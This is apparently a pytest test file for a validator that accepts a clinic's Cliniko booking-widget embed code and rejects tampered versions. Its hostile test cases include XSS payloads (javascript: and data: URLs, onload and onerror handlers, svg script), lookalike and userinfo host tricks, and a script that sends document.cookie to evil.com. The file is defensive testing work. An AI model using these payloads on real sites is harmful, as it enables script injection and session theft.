"""Cliniko's embed code: the documented snippet is accepted and reduced; hostile variants are refused."""

from __future__ import annotations

import pytest

from oncord.bookings import embed as embed_module
from oncord.bookings.embed import BookingEmbed, InvalidEmbed, parse_embed_code
from oncord.bookings.urls import BookingsUrl
from tests.bookings.samples import DOCUMENTED_CODE, ELEMENT_ID, IFRAME, SCRIPT, SRC, code_with

GOOD = SRC
OTHER_CLINIC = "https://rival.au2.cliniko.com/bookings?embedded=true"


def iframe(src: str = GOOD, extra: str = "") -> str:
    """Cliniko's iframe with another address or extra attributes."""
    return (f"<iframe id='{ELEMENT_ID}' src='{src}' frameborder='0' scrolling='auto' width='100%' "
            f"height='1000' style='pointer-events: auto;'{extra}></iframe>")


def test_documented_code_is_accepted_and_reduced_to_values() -> None:
    """The snippet from §9 gives its host, id and height, and nothing else is kept."""
    embed = parse_embed_code(DOCUMENTED_CODE)
    assert embed.url == BookingsUrl(subdomain="sunnyside", shard="au1")
    assert embed.src == "https://sunnyside.au1.cliniko.com/bookings?embedded=true"
    assert embed.element_id == ELEMENT_ID
    assert embed.height == 1000
    assert embed.allow_payment is False
    assert embed.origin == "https://sunnyside.au1.cliniko.com"


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (IFRAME, "https://sunnyside.au1.cliniko.com/bookings?embedded=true"),
        (iframe("https://acme.cliniko.com/bookings?embedded=true"), "https://acme.cliniko.com/bookings?embedded=true"),
        (iframe(GOOD + "&business_id=331656748404315&practitioner_id=12"),
         GOOD + "&business_id=331656748404315&practitioner_id=12"),
        (iframe("https://acme.uk2.cliniko.com/bookings/?appointment_type_id=7&embedded=true"),
         "https://acme.uk2.cliniko.com/bookings?embedded=true&appointment_type_id=7"),
        (f'<IFRAME ID="{ELEMENT_ID}" SRC="{GOOD}" WIDTH="100%" HEIGHT="1200px"></IFRAME>', GOOD),
        ("  \n" + DOCUMENTED_CODE + "\n\n", GOOD),
        (SCRIPT + "\n" + IFRAME, GOOD),
    ],
    ids=["iframe-only", "legacy-au1-host", "preselected", "trailing-slash-and-order", "upper-case", "padded",
         "script-first"],
)
def test_accepted_variants(code: str, expected: str) -> None:
    """Harmless variations of Cliniko's code are accepted and rebuilt canonically."""
    assert parse_embed_code(code).src == expected


def test_payment_permission_is_kept() -> None:
    """Newer copies ask for allow="payment"; that is the one permission passed on."""
    assert parse_embed_code(code_with(iframe(extra=" allow='payment'"))).allow_payment is True


def test_height_is_clamped_to_a_sane_range() -> None:
    """A silly height cannot make the widget vanish or fill a mile of page."""
    assert parse_embed_code(iframe().replace("height='1000'", "height='5'")).height == 200
    assert parse_embed_code(iframe().replace("height='1000'", "height='99999'")).height == 10_000


def test_canonical_code_parses_back_to_the_same_embed() -> None:
    """What the editor shows after Apply can be applied again unchanged."""
    embed = parse_embed_code(code_with(iframe(GOOD + "&business_id=5", " allow='payment'")))
    again = parse_embed_code(embed.canonical_code())
    assert again == embed
    assert "<script" not in embed.canonical_code()


def test_stored_values_are_checked_again() -> None:
    """A stored embed rebuilds only from values that still validate."""
    embed = parse_embed_code(DOCUMENTED_CODE)
    assert BookingEmbed.from_dict(embed.to_dict()) == embed
    tampered = embed.to_dict()
    tampered["url"]["subdomain"] = "evil.example.com/x"
    with pytest.raises(InvalidEmbed):
        BookingEmbed.from_dict(tampered)
    with pytest.raises(InvalidEmbed, match="height"):
        BookingEmbed.from_dict({**embed.to_dict(), "height": "1000; border:0"})


def test_allow_list_admits_the_clinics_account_in_either_host_form() -> None:
    """An au1 clinic's embed may use the sharded or the legacy host."""
    allowed = frozenset({("sunnyside", "au1")})
    assert parse_embed_code(DOCUMENTED_CODE, allowed_accounts=allowed)
    assert parse_embed_code(iframe("https://sunnyside.cliniko.com/bookings?embedded=true"),
                            allowed_accounts=allowed)


HOSTILE = [
    # (id, code, words the message must contain)
    ("other-host", iframe("https://evil.example.com/bookings?embedded=true"), "not a Cliniko bookings host"),
    ("lookalike-host", iframe("https://sunnyside.au1.cliniko.com.evil.com/bookings"),
     "not a Cliniko bookings host"),
    ("userinfo", iframe("https://sunnyside.au1.cliniko.com@evil.com/bookings"), "user name or password"),
    ("backslash", iframe("https://evil.com\\@sunnyside.au1.cliniko.com/bookings"), "'\\\\'"),
    ("port", iframe("https://sunnyside.au1.cliniko.com:8443/bookings"), "port"),
    ("plain-http", iframe("http://sunnyside.au1.cliniko.com/bookings?embedded=true"), "https://"),
    ("javascript-url", iframe("javascript:alert(document.cookie)"), "javascript:"),
    ("entity-encoded-javascript", iframe("&#106;avascript:alert(1)"), "javascript:"),
    ("data-url", iframe("data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="), "data:"),
    ("protocol-relative", iframe("//evil.com/bookings"), "starting with https://"),
    ("newline-in-scheme", iframe("java\nscript:alert(1)"), "control character"),
    ("unicode-lookalike", iframe("https://sunnysіde.au1.cliniko.com/bookings"),
     "does not belong in a web address"),
    ("cliniko-own-site", iframe("https://www.cliniko.com/bookings"), "Cliniko's own site"),
    ("other-path", iframe("https://sunnyside.au1.cliniko.com/patients/1"), "/bookings"),
    ("extra-parameter", iframe(GOOD + "&redirect_to=https://evil.com"), "'redirect_to'"),
    ("non-numeric-id", iframe(GOOD + "&business_id=1%20OR%201=1"), "business_id must be"),
    ("onload-handler", code_with(iframe(extra=" onload='alert(1)'")), "event handler (onload"),
    ("srcdoc", code_with(iframe(extra=" srcdoc='<script>alert(1)</script>'")), "'srcdoc'"),
    ("sandbox-escape-attr", code_with(iframe(extra=" allow='camera; microphone'")), "camera, microphone"),
    ("style-url", code_with(iframe().replace("pointer-events: auto;", "background:url(https://evil.com/x)")),
     "'background'"),
    ("duplicate-src", iframe(GOOD).replace("<iframe ", "<iframe src='https://evil.com/' "), "src twice"),
    ("extra-img", DOCUMENTED_CODE + "<img src=x onerror=alert(1)>", "<img>"),
    ("wrapper-div", f"<div class='booking'>{DOCUMENTED_CODE}</div>", "<div>"),
    ("svg-script", DOCUMENTED_CODE + "<svg><script>alert(1)</script></svg>", "<svg>"),
    ("script-src", IFRAME + "<script src='https://sunnyside.au1.cliniko.com/x.js'></script>", "loads a file"),
    ("script-fetch", code_with(script="<script>fetch('https://evil.com/?c=' + document.cookie)</script>"),
     "'fetch'"),
    ("script-redirect",
     code_with(script=SCRIPT.replace("scrollIntoView()", "scrollIntoView(); window.location = 'x'")),
     "'location'"),
    ("script-other-string", code_with(script=SCRIPT.replace("'string'", "'https://evil.com'")), "https://evil.com"),
    ("script-template-literal", code_with(script="<script>window.addEventListener(`message`, eval)</script>"),
     "'`'"),
    ("script-in-iframe", f"<iframe src='{GOOD}'><script>alert(1)</script></iframe>", "inside the <iframe>"),
    ("two-iframes", IFRAME + iframe(OTHER_CLINIC), "more than one <iframe>"),
    ("comment", DOCUMENTED_CODE + "<!-- <script>alert(1)</script> -->", "comment"),
    ("text-outside", "Book here: " + DOCUMENTED_CODE, "text outside"),
    ("truncated", f"<iframe src='{GOOD}'", "breaks off"),
    ("unclosed-iframe", f"<iframe src='{GOOD}'>", "not closed"),
    ("self-closing", f"<iframe src='{GOOD}'/>", "self-closing"),
    ("a-link", f"<a href='{GOOD}'>Book</a>", "<a>"),
    ("url-not-code", GOOD, "web address, not embed code"),
    ("nothing", "   ", "Paste the code"),
]


@pytest.mark.parametrize(("code", "expected"), [case[1:] for case in HOSTILE],
                         ids=[case[0] for case in HOSTILE])
def test_hostile_variants_are_refused_with_a_message_naming_the_problem(code: str, expected: str) -> None:
    """Other hosts, handlers, script URLs and extra markup never get through, and staff learn why."""
    with pytest.raises(InvalidEmbed) as refused:
        parse_embed_code(code)
    assert expected in str(refused.value)


def test_another_clinics_account_is_refused_when_the_clinic_is_known() -> None:
    """With the clinic's bookings host known, a different Cliniko account is refused by name."""
    with pytest.raises(InvalidEmbed, match="rival.au2.cliniko.com.*sunnyside.au1.cliniko.com"):
        parse_embed_code(iframe(OTHER_CLINIC), allowed_accounts=frozenset({("sunnyside", "au1")}))


def test_overlong_code_is_refused() -> None:
    """A huge paste is refused before parsing."""
    with pytest.raises(InvalidEmbed, match="far longer"):
        parse_embed_code(DOCUMENTED_CODE * 20)


def test_the_second_parser_must_agree_on_the_address() -> None:
    """If html5ever (nh3) read another address than html.parser, the code is refused as ambiguous."""
    mismatched = BookingEmbed(url=BookingsUrl(subdomain="rival", shard="au2"))
    with pytest.raises(InvalidEmbed, match="browsers could read differently"):
        embed_module._cross_check_with_nh3(DOCUMENTED_CODE, mismatched)
    embed_module._cross_check_with_nh3(DOCUMENTED_CODE, parse_embed_code(DOCUMENTED_CODE))
